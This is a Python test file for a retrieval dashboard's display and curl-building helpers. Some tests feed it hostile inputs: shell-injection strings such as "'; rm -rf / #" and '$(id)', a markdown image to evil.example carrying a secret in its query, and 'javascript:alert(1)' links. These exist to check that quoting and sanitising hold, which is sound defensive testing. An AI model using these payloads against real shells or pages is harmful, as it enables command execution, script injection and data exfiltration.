"""The pure helpers behind the dashboard pages (ui.present, rag.embeddings.curl, rag.sources.uploads,
rag.chunking.preview): what they produce is what the pages show or hand to the user."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from http.server import BaseHTTPRequestHandler
from types import SimpleNamespace

import pytest

import rag.i18n
from rag.chunking.preview import preview_chunks, preview_json
from rag.documents import Problem, split_items
from rag.sources.uploads import PASTED_URL, documents_from_uploads, pasted_document
from rag.answer.citations import URL_PATTERN
from ui.present import answer as answer_display
from ui.present import evaluation
from ui.present.charts import calibration_chart, score_chart
from ui.present.documents import chunk_rows, document_rows, stats_rows, warning_block
from rag.embeddings.curl import curl_command, endpoint, request_body, suggested_model
from rag.servers.models import LMSTUDIO, ModelInfo, ServerModels
from rag.chunking.preview import preview
from rag.sources import load_one
from tests.fixtures.net import start_http_server, stop_http_server

@pytest.fixture(autouse=True)
def english():
    """These helpers write in the reader's language; the checks below read English."""
    with rag.i18n.language("en"):
        yield


NASTY = [
    "It's a \"quoted\" $HOME `whoami` $(id) \\ back\\slash",
    "line one\nRAG_EMBED_REQUEST\nEOF\n'; rm -rf / #",
    "accents é à ü, emoji 🔐, tab\tend",
]


class _Echo(BaseHTTPRequestHandler):
    received: list[tuple[str, bytes]] = []

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.received.append((self.path, body))
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def echo_server():
    _Echo.received = []
    server, thread, port = start_http_server(_Echo)
    try:
        yield f"http://127.0.0.1:{port}", _Echo.received
    finally:
        stop_http_server(server, thread)


@pytest.mark.parametrize("target,path,extra", [
    ("lmstudio", "/v1/embeddings", {"encoding_format": "float"}),
    ("ollama", "/api/embed", {"truncate": False}),
])
@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
def test_curl_command_sends_every_chunk_intact_whatever_it_contains(echo_server, target, path, extra):
    url, received = echo_server
    command = curl_command(NASTY, "text-embedding-qwen3-embedding-0.6b", url, target)
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    assert len(received) == 1  # one request for all chunks
    got_path, body = received[0]
    assert got_path == path
    assert json.loads(body) == {"model": "text-embedding-qwen3-embedding-0.6b", "input": NASTY, **extra}


@pytest.mark.parametrize("model,prefix", [
    ("nomic-embed-text", "search_document: "),
    ("text-embedding-multilingual-e5-large", "passage: "),
    ("text-embedding-qwen3-embedding-0.6b", ""),  # Qwen3 embeds documents raw
])
def test_curl_command_embeds_each_chunk_as_an_ingestion_would(model, prefix):
    """Bug: the curl block sent nomic-embed-text its chunks without `search_document: `, so the
    vectors it printed were not those `rag ingest` stores."""
    command = curl_command(["klist purge", "pktmon"], model, None, "ollama")
    body = json.loads(command.splitlines()[3])
    assert body["input"] == [prefix + "klist purge", prefix + "pktmon"]


def test_endpoints_accept_base_urls_as_people_type_them():
    assert endpoint("localhost:1234", "lmstudio") == "http://localhost:1234/v1/embeddings"
    assert endpoint("http://localhost:1234/v1/embeddings/", "lmstudio") == "http://localhost:1234/v1/embeddings"
    assert endpoint("http://localhost:11434/", "ollama") == "http://localhost:11434/api/embed"
    assert request_body(["a"], "m", "ollama") == {"model": "m", "input": ["a"], "truncate": False}
    with pytest.raises(ValueError):
        request_body(["a"], "m", "openai-cloud")


def test_suggested_model_prefers_the_setting_then_the_servers_embedding_model():
    server = ServerModels("http://localhost:1234/v1", LMSTUDIO, [
        ModelInfo("qwen2.5-7b-instruct", "llm", "loaded"), ModelInfo("text-embedding-nomic", "embeddings", "not-loaded")])
    pick = server.pick_embedding_model().id
    assert suggested_model("my-model", pick) == "my-model"
    assert suggested_model("embedded", pick) == "text-embedding-nomic"
    assert suggested_model(None, None) == "YOUR-EMBEDDING-MODEL"


def _passage(n, score, url="kerberos.md", title="Kerberos", section="Erreurs", text="texte"):
    return SimpleNamespace(n=n, score=score, url=url, title=title, section=section, text=text, rrf_score=None)


def test_a_streamed_answer_never_shows_a_link_or_image_at_any_moment():
    # The ask page re-renders the text received so far after each piece: every prefix must be inert.
    text = "Voir ![x](https://evil.example/?q=secret) et [ici](javascript:alert(1)) www.evil.example [1]"
    for end in range(1, len(text) + 1):
        shown = answer_display.answer_text_markdown(text[:end])
        prose = re.sub(r"(`+).*?\1", "", shown, flags=re.DOTALL)
        # No link or image (a destination with balanced parentheses, closed), even half-received.
        assert not re.search(r"\]\((?:[^()\s]|\([^()\s]*\))*\)", prose), text[:end]
        assert not URL_PATTERN.search(prose), text[:end]  # nor an address GFM would link by itself


def test_sources_link_only_http_urls_and_show_paths_as_text():
    web = _passage(1, 0.9, url="https://blog.example.com/kerberos/")
    path = _passage(2, 0.8, url="kerberos-erreurs.md")
    evil = _passage(3, 0.8, url="javascript:alert(1)", title="Click [me]")
    assert answer_display.source_markdown(web) == "**[1]** [Kerberos / Erreurs](https://blog.example.com/kerberos/)"
    assert answer_display.source_markdown(path) == "**[2]** Kerberos / Erreurs — kerberos-erreurs.md"
    shown = answer_display.source_markdown(evil)
    assert "](" not in shown and "javascript:alert(1)" in shown and "\\[me\\]" in shown


def test_answer_markdown_drops_unsafe_links_and_images():
    result = SimpleNamespace(answer='Réponse [1] <script>x</script> ![t](https://evil/p.png) [a](javascript:x)')
    shown = answer_display.answer_markdown(result)
    assert "[1]" in shown and "<script>" not in shown and "https://evil" not in shown and "javascript:" not in shown


def test_refusal_and_flags_say_why_in_numbers():
    refused = SimpleNamespace(best_score=0.786, threshold=0.85, threshold_source="setting", refusal_reason="x")
    assert answer_display.refusal_details(refused) == ("No passage is close enough to the question (best score 0.786, threshold 0.850): "
                                          "the chat model was not asked.")
    flagged = SimpleNamespace(invalid_citations=[7], uncited=False, dropped_passages=[5, 6], llm_error=None,
                              context_length=4096, warnings=[])
    flags = answer_display.answer_flags(flagged)
    assert "[7]" in flags[0] and "[5], [6]" in flags[1] and "larger context" in flags[1]
    assert answer_display.no_answer_reason(SimpleNamespace(llm_error="LM Studio is down.")).startswith("No answer was written")


def test_score_chart_draws_one_bar_a_passage_and_the_threshold():
    rows = answer_display.passage_rows(SimpleNamespace(passages=[_passage(1, 0.91), _passage(2, 0.8)], accepted=[1], cited=[1]))
    assert [r["passed"] for r in rows] == [True, False]
    fig = score_chart(rows, 0.85)
    assert list(fig.data[0].y) == [0.91, 0.8]
    assert fig.layout.shapes[0].y0 == 0.85


ROWS = [
    {"id": "a", "question": "qa", "in_base": True, "top1_score": 0.9, "rank": 1, "retrieved": [{"url": "x.md", "score": 0.9}]},
    {"id": "b", "question": "qb", "in_base": True, "top1_score": 0.84, "rank": None, "retrieved": []},
    {"id": "c", "question": "qc", "in_base": False, "top1_score": 0.87, "rank": None, "retrieved": []},
    {"id": "d", "question": "qd", "in_base": False, "top1_score": 0.75, "rank": None, "retrieved": []},
]


def test_filters_follow_the_threshold_without_rerunning():
    assert [r["id"] for r in evaluation.filter_rows(ROWS, evaluation.MISSED, 0.85)] == ["b"]
    assert [r["id"] for r in evaluation.filter_rows(ROWS, evaluation.WRONGLY_REFUSED, 0.85)] == ["b"]
    assert [r["id"] for r in evaluation.filter_rows(ROWS, evaluation.WRONGLY_ACCEPTED, 0.85)] == ["c"]
    assert evaluation.filter_rows(ROWS, evaluation.WRONGLY_ACCEPTED, 0.88) == []
    at = evaluation.counts_at(ROWS, 0.85)
    assert (at["in_base_accepted_count"], at["out_of_base_refused_count"]) == (1, 1)
    table = evaluation.questions_frame(ROWS[:1], 0.85)
    assert table["at the threshold"][0] == "answered" and table["passages found"][0] == "1. x.md (0.90)"
    missed = evaluation.questions_frame(ROWS[1:2], 0.85).iloc[0]
    assert missed["rank"] == "not found"


def test_calibration_chart_has_both_groups_and_the_threshold_lines():
    fig = calibration_chart(ROWS, current=0.83, suggested=0.88, chosen=0.86)
    assert [len(t.x) for t in fig.data] == [2, 2]
    assert sorted(round(s.x0, 3) for s in fig.layout.shapes) == [0.83, 0.86, 0.88]


def test_metric_cards_use_plain_words_and_counts():
    summary = {"in_base": 54, "out_of_base": 14, "k": 6, "hit_at_1": 0.963, "hit_at_k": 1.0, "mrr": 0.98,
               "answer_in_context": None, "in_base_accepted": 1.0, "out_of_base_refused": 0.2857,
               "counts": {"hit_at_1": 52, "hit_at_k": 54, "in_base_accepted": 54, "out_of_base_refused": 4}}
    cards = {c["label"]: c for c in evaluation.metric_cards(summary)}
    assert cards["right article first"]["value"] == "96%" and cards["right article first"]["caption"].startswith("52 of 54")
    assert cards["right article in the top 6"]["value"] == "100%" and cards["answer in the passages"]["value"] == "n/a"
    assert cards["trick questions refused"]["caption"].startswith("4 of 14")
    # 2 of 54 not ranked first: never a perfect-looking "1.0", and the count beside it.
    assert cards["average rank"]["value"] == "1.02"
    assert cards["average rank"]["caption"] == "ranked first for 52 of 54; on average at rank 1.02"
    perfect = {**summary, "mrr": 1.0, "counts": {**summary["counts"], "hit_at_1": 54}}
    assert {c["label"]: c for c in evaluation.metric_cards(perfect)}["average rank"]["value"] == "1.0"
    shown = " ".join(f"{c['label']} {c['value']} {c['caption']}" for c in cards.values())
    assert "_" not in shown and "MRR" not in shown and "hit@" not in shown
    with rag.i18n.language("fr"):
        fr = evaluation.metric_cards(summary)[0]
    assert fr == {"label": "bon article en premier", "value": "96\u00a0%",
                  "caption": "52 questions sur 54 trouvent le bon article en premier"}


def test_a_chat_model_that_could_not_be_reached_shows_no_answer_metrics():
    rows = [{"refused": False, "llm_error": "LM Studio is not reachable"}, {"refused": True, "llm_error": None}]
    summary = {"llm": True, "in_base": 1, "out_of_base": 1, "k": 6, "answer_contains_expected": 0.0}
    assert evaluation.llm_failure(summary, rows) == ("down", 1, 1)
    labels = [c["label"] for c in evaluation.metric_cards(summary, with_answers=False)]
    assert "answers with the expected text" not in labels and len(labels) == 6
    rows.append({"refused": False, "llm_error": None, "answer": "ok [1]"})
    assert evaluation.llm_failure(summary, rows) == ("some", 1, 2)
    assert evaluation.llm_failure({"llm": False}, rows) is None


def test_results_by_kind_of_question_follow_the_threshold():
    rows = [dict(r, category=c) for r, c in zip(ROWS, ["identifier", "identifier", "off_topic", None])]
    frame = evaluation.categories_frame(rows, 0.85)
    assert frame["kind"].tolist() == ["identifier", "off topic", "no kind"]  # in the set's order
    table = frame.set_index("kind")
    assert table.loc["identifier", "right article found"] == "1 of 2"
    assert table.loc["identifier", "handled well (%)"] == 50
    assert table.loc["off topic", "refused"] == "0 of 1" and table.loc["no kind", "refused"] == "1 of 1"
    assert table.loc["off topic", "answered"] == ""  # no article question of that kind: nothing to count
    assert evaluation.categories_frame(rows, 0.88)["handled well (%)"][1] == 100  # c refused at 0.88


def test_uploads_load_like_a_folder_and_report_unusable_files():
    items = documents_from_uploads([
        ("../../etc/a.md", b"# Titre A\n\nTexte."),
        ("b.html", b"<html><head><title>Page B</title></head><body><main><p>Corps</p></main></body></html>"),
        ("empty.md", b""),
    ])
    documents, problems = split_items(items)
    assert [(d.url, d.title, d.modified) for d in documents] == [("a.md", "Titre A", None), ("b.html", "Page B", None)]
    assert [p.item for p in problems] == ["empty.md"]
    rows = document_rows(documents, problems)
    assert rows[0]["characters"] == str(len(documents[0].markdown)) and "empty" in rows[-1]["problems"]
    assert "None" not in [str(v) for row in rows for v in row.values()]


def test_pasted_text_takes_its_title_from_the_first_heading():
    doc = pasted_document("# Mon titre\n\nDu texte.\r\n")
    assert (doc.url, doc.title, doc.markdown) == (PASTED_URL, "Mon titre", "# Mon titre\n\nDu texte.")


def test_preview_rows_and_export_match_the_cli():
    from rag.demo import DEMO_DIR

    document = load_one(str(DEMO_DIR / "kerberos-klist.md"))
    given = {"chunk_size": 500, "overlap": None, "min_size": None, "max_size": None}
    previews = preview_chunks(document, given)
    rows = stats_rows(previews)
    assert [r["strategy"] for r in rows] == ["recursive", "sections", "sections_min_max", "markdown"]
    recursive = dict((c.name, ch) for c, ch in previews)["recursive"]
    block = warning_block("recursive", recursive)
    assert block.startswith("**recursive: ") and "cut through a code block" in block
    assert block.count("\n- ") == sum(1 for w in ("code_block_split", "no_heading_context", "table_split",
                                                  "oversized", "tiny") if any(w in c.warnings for c in recursive))
    assert rows[0]["warnings"] >= 1 and warning_block("sections", dict((c.name, ch) for c, ch in previews)["sections"]) is None
    assert rows[0]["settings"] == "chunk size 500, overlap 200"
    assert "None" not in [str(v) for row in chunk_rows(recursive) for v in row.values()]
    assert preview_json(document, given) == preview(document, "all", **given)


def test_passage_headings_are_demoted_but_code_is_left_alone():
    text = "## Modifier MaxTokenSize\n\nTexte.\n\n```powershell\n# un commentaire\n```\n### Fin ###"
    shown = answer_display.passage_text_markdown(_passage(1, 0.9, text=text))
    assert shown == "**Modifier MaxTokenSize**\n\nTexte.\n\n```powershell\n# un commentaire\n```\n**Fin**"


def test_a_refusal_is_shown_in_the_reader_language_with_its_reason():
    refused = SimpleNamespace(refused=True, answer="Je ne trouve pas cette information dans les articles indexés.",
                              best_score=0.76, threshold=0.83, accepted=[])
    assert answer_display.answer_markdown(refused) == "I cannot find this information in the indexed articles."
    assert answer_display.refusal_details(refused).startswith("No passage is close enough")
    with rag.i18n.language("fr"):
        assert answer_display.answer_markdown(refused) == "Je ne trouve pas cette information dans les articles indexés."
        assert answer_display.refusal_details(refused).startswith("Aucun passage n'est assez proche")
        model = SimpleNamespace(refused=True, best_score=0.9, threshold=0.83, accepted=[1])
        assert answer_display.refusal_details(model) == "Le modèle a lu les passages et n'y a pas trouvé la réponse."


def test_a_line_says_why_scores_and_ranks_disagree():
    from rag.answer.ordering import Ordering

    ranked = SimpleNamespace(passages=[_passage(1, 0.91), _passage(2, 0.88)], ordering=Ordering("hybrid"))
    rising = [_passage(1, 0.86), _passage(2, 0.9)]
    hybrid = SimpleNamespace(passages=rising, ordering=Ordering("hybrid"))
    assert answer_display.order_note(ranked) is None
    assert "keywords and meaning together:" in answer_display.order_note(hybrid)
    # What really ordered them: the chat model's ranking, its rewrite, the distinct articles.
    by_model = SimpleNamespace(passages=rising, ordering=Ordering("hybrid", steered="rewrite", ranked_by="chat_model"))
    assert answer_display.order_note(by_model).startswith("Passages are ranked by the chat model")
    rewritten = SimpleNamespace(passages=rising, ordering=Ordering("dense", steered="rewrite"))
    assert "its rewrite by the chat model" in answer_display.order_note(rewritten)
    assert "keywords" not in answer_display.order_note(rewritten)
    articles = SimpleNamespace(passages=rising, ordering=Ordering("dense", articles=True))
    assert answer_display.order_note(articles).startswith("Passages are ranked by meaning, the best passage of each")
    restored = SimpleNamespace(passages=rising)  # a turn read back from the journal: no ordering kept
    assert answer_display.order_note(restored).startswith("Passages are in the order the search gave them")
    with rag.i18n.language("fr"):
        assert answer_display.order_note(by_model).startswith("Les passages sont classés par le modèle de chat")
    assert "RRF" not in answer_display.passage_markdown(_passage(1, 0.857), True, 0.83)


def test_a_passage_under_the_threshold_never_reads_as_reaching_it():
    """Bug: a passage at 0.8165 read "score 0.82" beside "too far from the question" under a
    threshold of 0.817, and one at 0.8296 "0.83" under 0.830."""
    for score, threshold in ((0.8165, 0.817), (0.8296, 0.830), (0.83, 0.83), (0.8171, 0.817)):
        accepted = score >= threshold
        line = answer_display.passage_markdown(_passage(1, score), accepted, threshold)
        shown = float(re.search(r"score (\d\.\d+)", line).group(1))
        assert (shown >= threshold) == accepted, line


def test_a_score_refusal_writes_the_threshold_as_the_sidebar_does():
    """The sidebar said 'threshold 0.833 (calibrated)' while the refusal said 'best score 0.83, threshold 0.83'."""
    from ui.present.answer import refusal_details

    refused = SimpleNamespace(best_score=0.8291, threshold=0.833, gate={}, accepted=[])
    assert "(best score 0.829, threshold 0.833)" in refusal_details(refused)
    with rag.i18n.language("fr"):
        assert "0,829" in refusal_details(refused) and "0,833" in refusal_details(refused)


def test_pasted_text_leaves_its_front_matter_out_of_the_body():
    doc = pasted_document("---\ntitle: Purger les tickets\naccess: [rh]\n---\n\n## klist\n\nklist purge vide le cache.\n")
    assert (doc.title, doc.markdown, doc.access) == ("Purger les tickets", "## klist\n\nklist purge vide le cache.", ["rh"])
    assert "title:" not in doc.markdown
    assert pasted_document("---\naccess: []\n---\nSecret.").access == []  # never falls back to public
    broken = pasted_document("---\ntitle: [unclosed\n---\nTexte.")
    assert isinstance(broken, Problem) and broken.item == PASTED_URL


def test_the_split_table_warning_says_the_header_row_is_repeated_when_it_is():
    from rag.chunking import make_chunker
    from ui.present.documents import chunk_rows, warning_block

    rows = "\n".join(f"| 0x{i:02x} | valeur numéro {i} du masque de chiffrement |" for i in range(40))
    markdown = "## Valeurs\n\n| Bit | Sens |\n|---|---|\n" + rows + "\n\nFin de l'article.\n"
    repeating = make_chunker("markdown", chunk_size=600, overlap=0).chunk(markdown, "Types")
    pieces = [c for c in repeating if "table_split" in c.warnings]
    assert pieces and all("| Bit | Sens |" in c.header for c in pieces)  # what is indexed carries the header
    block = warning_block("markdown", repeating)
    assert "header row is repeated" in block and "without the header row" not in block
    assert "table cut, header repeated" in [r["warnings"] for r in chunk_rows(repeating)]
    # A strategy that cuts without repeating it still says the pieces lack it.
    bare = make_chunker("recursive", chunk_size=600, overlap=0).chunk(markdown, "Types")
    assert "without the header row" in warning_block("recursive", bare)


def test_a_chunks_warnings_stay_readable_in_a_narrow_pane():
    """Side by side, a chunk table is narrower than its columns: the warnings come right after
    the number, in a column wide enough for its longest text (it read "code coup…")."""
    from rag.chunking.base import Chunk
    from ui.present.documents import warnings_width

    chunk = Chunk(text="x" * 40, index=0, start=0, end=40, warnings=["code_block_split", "table_split"])
    with rag.i18n.language("fr"):
        rows = chunk_rows([chunk])
        assert list(rows[0])[:2] == ["#", "alertes"]
        assert rows[0]["alertes"] == "code coupé, tableau sans en-tête"
        assert warnings_width(rows) >= 8 * len(rows[0]["alertes"])


def test_a_suggested_threshold_that_changes_no_count_is_said_to_change_nothing():
    summary = {"in_base": 2, "out_of_base": 2, "threshold": 0.80}
    same = evaluation.same_counts(summary, ROWS, 0.80, 0.82)  # nothing lies between 0.80 and 0.82
    assert (same.in_base_accepted_count, same.in_base_count, same.out_of_base_refused_count) == (2, 2, 1)
    assert evaluation.same_counts(summary, ROWS, 0.80, 0.86) is None  # 0.86 refuses qb: not the same
    with rag.i18n.language("fr"):
        from ui.i18n import t

        line = t("eval.current_same", value="0,800", suggested="0,820", accepted=2, n_in=2, refused=1, n_out=2)
    assert "mêmes comptes" in line and "rien à gagner" in line
